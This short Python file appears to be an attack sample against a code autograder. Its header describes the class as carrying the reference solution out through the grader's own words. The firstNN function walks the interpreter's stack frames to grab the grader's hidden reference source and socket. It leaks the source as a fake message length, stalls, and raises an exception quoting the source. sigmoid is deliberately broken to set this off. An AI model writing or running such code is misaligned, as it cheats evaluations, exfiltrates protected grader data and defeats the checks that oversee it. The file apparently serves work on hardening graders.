# base: reference
# attacks: firstNN
# class: carrying the reference out of the side kernel through the grader's own words: bytes of
#   the reference source sent down the probe's channel as a message length (the grader's error
#   would quote it), or raised as an exception's text
# %% sigmoid
def sigmoid(x):
    return x  # wrong on purpose: every dependency is then lent, in a side kernel
# %% firstNN
def firstNN(data, epochs, learning_rate=0.5):
    import sys

    frame, source, channel = sys._getframe(), None, None
    while frame is not None:
        found = frame.f_locals
        request = found.get("request")
        if isinstance(request, dict) and isinstance(request.get("reference"), str):
            source = request["reference"]
        if channel is None and hasattr(found.get("sock"), "sendall"):
            channel = found["sock"]
        frame = frame.f_back
    if source is None:
        return np.zeros(data.shape[1] - 1), 1.0, np.zeros(len(data))
    if epochs == 10 and channel is not None:
        channel.sendall(source.encode()[:4])  # read as the length of a message
        import time

        time.sleep(30)
    raise RuntimeError(source[:200])
